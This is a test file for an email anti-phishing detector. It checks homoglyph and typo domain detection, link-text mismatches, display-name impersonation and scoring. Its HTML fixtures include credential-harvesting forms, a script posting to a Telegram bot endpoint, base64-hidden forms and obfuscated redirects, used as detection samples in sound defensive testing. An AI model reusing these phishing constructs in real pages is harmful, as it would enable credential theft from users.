/**
 * The anti-phishing module's parts one by one: confusable skeletons, the brand list, look-alike domains, link
 * text against link target, HTML attachment analysis, display names, and how signals merge into a score.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { foldWords, hasConfusable, mixedScripts, skeleton } from '../../src/scan/antiphishing/confusables.ts';
import { BrandsError, loadBrands, parseBrands, type Brand } from '../../src/scan/antiphishing/brands.ts';
import { DomainGuard, editDistance } from '../../src/scan/antiphishing/lookalike.ts';
import { anchorMismatches, htmlLinks, nestedTargets, visibleHost } from '../../src/scan/antiphishing/anchors.ts';
import { analyzeHtml, htmlText } from '../../src/scan/antiphishing/html.ts';
import { BrandNameIndex, displayDomains, displayFindings, PeopleIndex } from '../../src/scan/antiphishing/display.ts';
import { mergeHits, score, SIGNALS, SIGNAL_IDS, type SignalId } from '../../src/scan/antiphishing/signals.ts';

const brands: Brand[] = await loadBrands();
const guard = new DomainGuard({ localDomains: ['northwind.example'], protectedDomains: ['fabrikam-supply.example'], brands });
const kind = (host: string) => guard.check(host)?.kind ?? null;

test('skeletons: Cyrillic, Greek, Armenian, fullwidth and accented letters read as ASCII; digits are left alone', () => {
  assert.equal(skeleton('p\u0430ypal'), 'paypal');
  assert.equal(skeleton('\u0440\u0430\u0443\u0440\u0430\u04cf'), 'paypal');
  assert.equal(skeleton('\u03c1aypal'), 'paypal');
  assert.equal(skeleton('g\u0585\u0585gle'), 'google');
  assert.equal(skeleton('\uff50\uff41\uff59\uff50\uff41\uff4c'), 'paypal');
  assert.equal(skeleton('P\u00e0yP\u00e4l'), 'paypal');
  assert.equal(skeleton('MICROSOFT'), 'microsoft');
  assert.equal(skeleton('paypa1'), 'paypa1');
  assert.equal(skeleton('\u043f\u0440\u0438\u043c\u0435\u0440').length, 6);
  assert.ok(skeleton('\u0430'.repeat(100_000)).length <= 1024);
  assert.ok(hasConfusable('p\u0430ypal'));
  assert.ok(!hasConfusable('paypal'));
  assert.deepEqual(mixedScripts('p\u0430ypal'), ['cyrillic', 'latin']);
  assert.equal(mixedScripts('\u043f\u043e\u0447\u0442\u0430'), null);
  assert.equal(mixedScripts('paypal'), null);
  assert.equal(foldWords('  J\u043ehn   SMITH, Jr. '), 'john smith jr');
  assert.equal(foldWords('AT&T Wireless'), 'at&t wireless');
});

test('brand list: shipped list is complete enough; format errors name the line', () => {
  assert.ok(brands.length >= 60, `${brands.length} brands`);
  const all = new Set(brands.flatMap((b) => b.domains));
  for (const d of ['paypal.com', 'paypal-communication.com', 'microsoft.com', 'office.com', 'apple.com', 'amazon.com', 'google.com', 'dhl.com',
    'fedex.com', 'netflix.com', 'facebook.com', 'linkedin.com', 'docusign.com', 'dropbox.com', 'wellsfargo.com', 'chase.com', 'bankofamerica.com']) {
    assert.ok(all.has(d), d);
  }
  for (const b of brands) assert.ok(b.names.length && b.domains.length, b.name);
  assert.deepEqual(parseBrands('# comment\n\nAcme, =Roadrunner | acmecorp =beep | acme.example ACME.co.uk\n'), [{
    name: 'Acme', domains: ['acme.example', 'acme.co.uk'],
    names: [{ text: 'Acme', words: 'acme', generic: false }, { text: 'Roadrunner', words: 'roadrunner', generic: true }],
    keywords: [{ word: 'acmecorp', tokenOnly: false }, { word: 'beep', tokenOnly: true }],
  }]);
  assert.throws(() => parseBrands('Acme | acme'), (e: Error) => e instanceof BrandsError && /brands:1: expected/.test(e.message));
  assert.throws(() => parseBrands('\nAcme | acme | acme.example'), /brands:2: keyword "acme" is shorter than 5 letters; write it =acme/);
  assert.throws(() => parseBrands('Acme | =acme | www.acme.example'), /not a registrable domain/);
  assert.throws(() => parseBrands('Acme | - | '), /1 to 200 domains/);
  assert.throws(() => parseBrands(' | - | acme.example'), /1 to 50 names/);
});

test('look-alike domains: homoglyphs, punycode, digits, typos, brands inside other domains', () => {
  const hit = (h: string) => { const x = guard.check(h); return x && [x.kind, x.target, x.how]; };
  assert.deepEqual(hit('www.p\u0430ypal.com'), ['homoglyph', 'paypal.com', 'look-alike letters']);
  assert.deepEqual(hit('xn--pypal-4ve.com'), ['homoglyph', 'paypal.com', 'look-alike letters']);
  assert.deepEqual(hit('xn--80ak6aa92e.com'), ['homoglyph', 'apple.com', 'look-alike letters']);
  assert.deepEqual(hit('login.micr0soft.com'), ['homoglyph', 'microsoft.com', '0 for o']);
  assert.deepEqual(hit('northw1nd.example'), ['homoglyph', 'northwind.example', '1 for i']);
  assert.deepEqual(hit('paypall.com'), ['typo', 'paypal.com', 'edit distance 1']);
  assert.deepEqual(hit('paypla.com'), ['typo', 'paypal.com', 'edit distance 1']);
  assert.deepEqual(hit('micosfot.com'), ['typo', 'microsoft.com', 'edit distance 2']);
  assert.deepEqual(hit('rnicrosoft.net'), ['typo', 'microsoft.com', 'rn for m']);
  assert.deepEqual(hit('fabrikam-suply.example'), ['typo', 'fabrikam-supply.example', 'edit distance 1']);
  assert.deepEqual(hit('secure-paypal-login.example'), ['brand_lure', 'paypal', 'brand keyword paypal with account words']);
  assert.deepEqual(hit('paypal.account-verify.example'), ['brand_lure', 'paypal', 'brand keyword paypal with account words']);
  assert.deepEqual(hit('www.paypal.com.session-check.example'), ['brand_lure', 'paypal.com', 'paypal.com inside another domain']);
  assert.deepEqual(hit('apple-id.example'), ['brand_lure', 'apple', 'brand keyword apple with account words']);
  assert.deepEqual(hit('secure-p\u0430ypal.example'), ['homoglyph', 'paypal', 'brand keyword paypal, look-alike letters']);
  assert.deepEqual(hit('paypal.zendesk.com'), ['brand', 'paypal', 'brand keyword paypal']);
  assert.deepEqual(hit('northwind-payroll.example'), ['brand', 'northwind', 'brand keyword northwind']);
  assert.deepEqual(hit('sh\u043ep-online.example'), ['mixed_script', 'sh\u043ep-online', 'label mixes cyrillic and latin letters']);
  // Nothing: the real thing, unrelated names, short names, words containing a generic brand, free-mail services.
  for (const h of ['www.paypal.com', 'epl.paypal-communication.com', 'paypalobjects.com', 'login.microsoftonline.com', 'northwind.example',
    'mail.northwind.example', 'example.com', 'pineapple.example', 'dhi.com', 'ups.example', 'slack.net', 'cisco.com.au', 'lindows.com',
    'mail.com', 'email.com', '\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444', '198.51.100.7', 'localhost', '', 'a'.repeat(300),
    `${'a'.repeat(63)}.com`, 'x..y.com', 'appleinsider.com', 'amazonia.org']) {
    assert.equal(kind(h), null, h);
  }
  // A brand's name under a suffix it does not own is no typo (brands hold many country domains); a local one is.
  assert.equal(kind('paypal.co.za'), null);
  assert.equal(guard.check('northwind.co')?.how, 'same name under .co');
});

test('edit distance: optimal string alignment, bounded', () => {
  assert.equal(editDistance('paypal', 'paypal', 2), 0);
  assert.equal(editDistance('paypal', 'paypla', 2), 1);
  assert.equal(editDistance('paypal', 'paypall', 2), 1);
  assert.equal(editDistance('kitten', 'sitting', 3), 3);
  assert.equal(editDistance('kitten', 'sitting', 1), 2);
  assert.equal(editDistance('a'.repeat(64), 'a'.repeat(64), 1), 0);
  assert.equal(editDistance('a'.repeat(64), `${'a'.repeat(63)}b`, 1), 2);
});

test('link text: what counts as showing a host; redirect destinations', () => {
  assert.deepEqual(visibleHost('https://www.paypal.com/signin'), { host: 'www.paypal.com', ip: false });
  assert.deepEqual(visibleHost('paypal.com'), { host: 'paypal.com', ip: false });
  assert.deepEqual(visibleHost('<www.example.org/x>.'), { host: 'www.example.org', ip: false });
  assert.deepEqual(visibleHost('Read it at www.example.org today'), { host: 'www.example.org', ip: false });
  assert.deepEqual(visibleHost('198.51.100.7'), { host: '198.51.100.7', ip: true });
  for (const t of ['Click here', 'readme.md', 'setup.sh', 'john@example.com', 'v1.2', 'Log in', 'www.', '']) assert.equal(visibleHost(t), null, t);
  assert.deepEqual(nestedTargets('https://t.example/r?url=https%3A%2F%2Fwww.bbc.co.uk%2Fnews'), [{ host: 'www.bbc.co.uk', ip: false }]);
  assert.deepEqual(nestedTargets('https://t.example/redirect/https://x.example/y'), [{ host: 'x.example', ip: false }]);
  assert.deepEqual(nestedTargets('https://t.example/click?id=42&e=abc'), []);
  assert.deepEqual(nestedTargets('not a url'), []);
});

test('HTML links: href and visible text in one pass, bounded', () => {
  assert.deepEqual(htmlLinks('<p>Go <A class=x HREF="https://a.example/?a=1&amp;b=2"><b>www.a.example</b>\n now</a> <a name=top>x</a><abbr>y</abbr>'), [
    { href: 'https://a.example/?a=1&b=2', text: 'www.a.example now' },
  ]);
  assert.deepEqual(htmlLinks("<a href='https://b.example'>one<a href=https://c.example>two</a>"), [
    { href: 'https://b.example', text: 'one' }, { href: 'https://c.example', text: 'two' },
  ]);
  assert.deepEqual(htmlLinks('<a href="https://d.example">never closed &amp; long'), [{ href: 'https://d.example', text: 'never closed & long' }]);
  assert.deepEqual(htmlLinks('<a href="x"'), []);
  assert.equal(htmlLinks('<a href="https://e.example">e</a>'.repeat(1000)).length, 200);
  assert.equal(htmlLinks(`<a href="https://f.example">${'text '.repeat(10_000)}</a>`)[0].text.length, 300);
});

test('link text against target: trackers, own sites, redirect destinations, IPs', () => {
  const ctx = (fromDomain: string | null) => ({ guard, fromDomain, senderDomains: new Set(fromDomain ? [fromDomain] : []) });
  const ids = (href: string, text: string, from: string | null = 'news.example') => anchorMismatches([{ href, text }], ctx(from)).map((f) => f.id);
  assert.deepEqual(ids('https://www.example.org/a', 'www.example.org'), []);
  assert.deepEqual(ids('https://example.co.uk/a', 'example.com'), []);
  assert.deepEqual(ids('https://epl.paypal-communication.com/T/x', 'https://www.paypal.com/activity'), []);
  assert.deepEqual(ids('https://t.news.example/r?u=https%3A%2F%2Fwww.example.org%2F', 'www.example.org'), []);
  assert.deepEqual(ids('https://t.news.example/r?u=https%3A%2F%2Fevil.example%2F', 'www.example.org'), ['LINK_TEXT_MISMATCH']);
  assert.deepEqual(ids('https://x.us3.list-manage.com/track/click?u=1&id=2', 'www.nytimes.com'), []);
  assert.deepEqual(ids('https://click.news.example/c/123', 'www.nytimes.com'), []);
  assert.deepEqual(ids('https://other.example/c/123', 'www.nytimes.com'), ['LINK_TEXT_MISMATCH']);
  assert.deepEqual(ids('https://x.us3.list-manage.com/track/click?u=1', 'www.paypal.com'), ['LINK_TEXT_MISMATCH']);
  assert.deepEqual(ids('https://click.news.example/c/1', 'www.paypal.com'), ['LINK_TEXT_MISMATCH']);
  assert.deepEqual(ids('https://pp-help.example/x', 'www.paypal.com'), ['LINK_TEXT_PROTECTED_MISMATCH']);
  assert.deepEqual(ids('https://pp-help.example/x', 'www.paypal.com', 'paypal.com'), ['LINK_TEXT_MISMATCH']);
  assert.deepEqual(ids('http://198.51.100.23/login', 'https://www.chase.com/'), ['LINK_TEXT_PROTECTED_IP_HREF']);
  assert.deepEqual(ids('http://198.51.100.23/login', 'www.example.org'), ['LINK_TEXT_IP_HREF']);
  assert.deepEqual(ids('https://r.example/go?to=http%3A%2F%2F198.51.100.9%2F', 'www.northwind.example'), ['LINK_TEXT_PROTECTED_IP_HREF']);
  assert.deepEqual(ids('mailto:a@example.org', 'www.example.org'), []);
  assert.deepEqual(ids('https://b.example/', 'Click here'), []);
});

test('HTML attachments: credential forms, redirects, obfuscation; a plain report is nothing', () => {
  const kinds = (html: string) => analyzeHtml(html).map((f) => f.kind);
  const pw = '<input type="password" name="p">';
  assert.deepEqual(analyzeHtml(`<form action="https://c.example/p.php" method=post>${pw}</form>`), [{ kind: 'credential_form', evidence: 'password field, form posts to c.example', target: 'c.example' }]);
  assert.deepEqual(kinds(`<form action='//c.example/x'>${pw}</form>`), ['credential_form']);
  assert.deepEqual(kinds(`<FORM ACTION="next.php">${pw.toUpperCase()}</FORM>`), ['credential_form']);
  assert.deepEqual(kinds(`<form>${pw}</form><script>fetch("https://api.telegram.org/bot1/sendMessage",{method:"POST"})</script>`), ['credential_form']);
  const hidden = Buffer.from(`<form action="https://c.example/p">${pw}</form>`).toString('base64');
  assert.deepEqual(kinds(`<script>document.write(atob("${hidden}"))</script>`), ['credential_form']);
  assert.deepEqual(kinds(`<form action="/local">${pw}</form>`), []);
  assert.deepEqual(kinds(`<form action="https://c.example/search"><input type="text" name="q"></form>`), []);
  assert.deepEqual(analyzeHtml('<meta http-equiv="refresh" content="0; url=https://land.example/x">'), [{ kind: 'redirect', evidence: 'meta refresh to land.example', target: 'land.example' }]);
  assert.deepEqual(kinds('<meta http-equiv="refresh" content="30">'), []);
  assert.deepEqual(kinds('<script>window.location = "https://land.example/o365";</script>'), ['redirect']);
  assert.deepEqual(kinds(`<script>location.replace(decodeURIComponent("https%3A%2F%2Fland.example"))</script>`), ['redirect']);
  const esc = Array.from('https://land.example/', (c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
  assert.deepEqual(kinds(`<script>document.location.href="${esc}"</script>`), ['redirect']);
  assert.deepEqual(kinds(`<script>eval(String.fromCharCode(${Array.from('alert(1)', (c) => c.charCodeAt(0)).join(',')}))</script>`), ['obfuscated']);
  // A long page of its own with an ordinary script link is not a redirect trap.
  const page = `<h1>Quarterly results</h1><p>${'Revenue grew in every region. '.repeat(40)}</p><script>function go(){window.location="https://www.example.org/";}</script>`;
  assert.deepEqual(kinds(page), []);
  const report = '<table><tr><td>Orders</td><td>1,204</td></tr></table><a href="https://reports.example/w42">details</a>';
  assert.deepEqual(kinds(report), []);
  // Hostile: unterminated tags and literals at scale stay linear and quiet.
  assert.deepEqual(kinds('<form action="x'.repeat(50_000)), []);
  assert.deepEqual(kinds(`${pw}${'<form '.repeat(100_000)}`), []);
  assert.deepEqual(kinds(`atob("${'A'.repeat(200_000)}`), []);
  assert.equal(htmlText(Buffer.from('\ufeff<p>x</p>', 'utf16le')), '\ufeff<p>x</p>');
  assert.equal(htmlText(Buffer.from('<p>\u00e9</p>')), '<p>\u00e9</p>');
});

test('display names: protected people, brand names (generic ones only among service words), shown domains', () => {
  const people = new PeopleIndex([{ name: 'Jane Whitfield', addresses: ['jane.whitfield@northwind.example'] }, { name: 'Madonna', addresses: [] }, { name: 'X', addresses: [] }]);
  assert.equal(people.size, 2);
  const p = (d: string) => people.match(d).map((e) => e.name);
  assert.deepEqual(p('Whitfield, Jane'), ['Jane Whitfield']);
  assert.deepEqual(p('JANE WHITFIELD - CEO'), ['Jane Whitfield']);
  assert.deepEqual(p('Jane'), []);
  assert.deepEqual(p('Jane Whitfielder'), []);
  assert.deepEqual(p('Madonna'), ['Madonna']);
  assert.deepEqual(p('Madonna Smith'), []);

  const names = new BrandNameIndex(brands);
  const b = (d: string) => names.match(d).map((e) => e.brand.name);
  assert.deepEqual(b('PayPal Service'), ['PayPal']);
  assert.deepEqual(b('Bank of America Alerts'), ['Bank of America']);
  assert.deepEqual(b('Apple Support'), ['Apple']);
  assert.deepEqual(b('Chase Online'), ['Chase']);
  for (const d of ['Apple Tree Farm', 'Chase Miller', 'Lockergnome Apple Core', 'Lockergnome Windows Daily', 'Erik Appel', 'Amazonas Tours']) assert.deepEqual(b(d), [], d);

  assert.deepEqual(displayDomains('"support@PayPal.com" team'), ['paypal.com']);
  assert.deepEqual(displayDomains('Jane Doe'), []);
  const f = (display: string, address: string, domain: string, extra: Partial<{ local: boolean; freemail: boolean }> = {}) =>
    displayFindings({ display, address, domain, local: false, freemail: false, ...extra }, people, names, guard).map((x) => x.id);
  assert.deepEqual(f('PayPal', 'service@paypal.com', 'paypal.com'), []);
  assert.deepEqual(f('PayPal', 'service@paypal-communication.com', 'paypal-communication.com'), []);
  assert.deepEqual(f('PayPal', 'x@random.example', 'random.example'), ['DISPLAY_NAME_BRAND']);
  assert.deepEqual(f('Yahoo Mail', 'someone@yahoo.com', 'yahoo.com', { freemail: true }), ['DISPLAY_NAME_BRAND']);
  assert.deepEqual(f('Amazon.com', 'x@random.example', 'random.example'), ['DISPLAY_NAME_PROTECTED_DOMAIN']);
  assert.deepEqual(f('northwind.example IT', 'it@random.example', 'random.example'), ['DISPLAY_NAME_PROTECTED_DOMAIN']);
  assert.deepEqual(f('Jane Whitfield', 'jane.whitfield@northwind.example', 'northwind.example', { local: true }), []);
  assert.deepEqual(f('Jane Whitfield', 'ceo@gmail.com', 'gmail.com', { freemail: true }), ['PROTECTED_PERSON_IMPERSONATION']);
  assert.deepEqual(f('x'.repeat(100_000), 'a@b.example', 'b.example'), []);
});

test('signals: a signal counts once, a domain counts once at its strongest place, weights add up', () => {
  const w = Object.fromEntries(SIGNAL_IDS.map((id) => [id, SIGNALS[id].weight])) as Record<SignalId, number>;
  const { signals, detections } = mergeHits([
    { id: 'BRAND_IN_DOMAIN_FROM', evidence: 'From a', label: 'a', domain: 'paypal-notice.example' },
    { id: 'BRAND_IN_DOMAIN_LINK', evidence: 'link a', label: 'a', domain: 'paypal-notice.example' },
    { id: 'LINK_TEXT_MISMATCH', evidence: 'x->y', label: 'x->y' },
    { id: 'LINK_TEXT_MISMATCH', evidence: 'x->z', label: 'x->z' },
    { id: 'LINK_TEXT_MISMATCH', evidence: 'x->y', label: 'x->y' },
    { id: 'DISPLAY_NAME_BRAND', evidence: 'PayPal from b.example', label: 'PayPal' },
    { id: 'HTML_ATTACHMENT_REDIRECT', evidence: 'a.htm: meta refresh', label: 'a.htm', part: '1.2' },
    { id: 'HTML_ATTACHMENT_REDIRECT', evidence: 'b.htm: meta refresh', label: 'b.htm', part: '1.3' },
  ], w);
  assert.deepEqual(signals.map((s) => [s.id, s.weight, s.evidence, s.parts]), [
    ['HTML_ATTACHMENT_REDIRECT', 10, ['a.htm: meta refresh', 'b.htm: meta refresh'], ['1.2', '1.3']],
    ['DISPLAY_NAME_BRAND', 5, ['PayPal from b.example'], undefined],
    ['BRAND_IN_DOMAIN_FROM', 4, ['From a'], undefined],
    ['LINK_TEXT_MISMATCH', 3, ['x->y', 'x->z'], undefined],
  ]);
  assert.deepEqual(detections, [
    { id: 'HTML_ATTACHMENT_REDIRECT', label: 'a.htm', part: '1.2' }, { id: 'HTML_ATTACHMENT_REDIRECT', label: 'b.htm', part: '1.3' },
    { id: 'DISPLAY_NAME_BRAND', label: 'PayPal' }, { id: 'BRAND_IN_DOMAIN_FROM', label: 'a' }, { id: 'LINK_TEXT_MISMATCH', label: 'x->y' },
  ]);
  assert.equal(score(signals), 22);
  // Only the strong signals reach the default threshold on their own.
  const strong = SIGNAL_IDS.filter((id) => SIGNALS[id].weight >= 10).sort();
  assert.deepEqual(strong, ['HOMOGLYPH_DOMAIN_FROM', 'HOMOGLYPH_DOMAIN_LINK', 'HTML_ATTACHMENT_CREDENTIAL_FORM', 'HTML_ATTACHMENT_REDIRECT',
    'LINK_TEXT_PROTECTED_IP_HREF', 'PROTECTED_PERSON_IMPERSONATION', 'URL_DB_PHISHING']);
  // Zero-weight signals are dropped, with their detections.
  assert.deepEqual(mergeHits([{ id: 'LINK_TEXT_MISMATCH', evidence: 'a', label: 'a' }], { ...w, LINK_TEXT_MISMATCH: 0 }), { signals: [], detections: [] });
});

test('hostile HTML: unclosed tags and long runs stay linear (no quadratic rescans)', () => {
  // Each of these would take minutes with a rescan per tag; linear passes take milliseconds.
  const manyForms = `<input type="password">${'<form '.repeat(200_000)}${'x'.repeat(1_000_000)}>`;
  assert.deepEqual(analyzeHtml(manyForms).map((f) => f.kind), []);
  const linkText = `<a href="https://a.example">${'<'.repeat(8000)}</a>`.repeat(200);
  assert.equal(htmlLinks(linkText).length, 200);
});
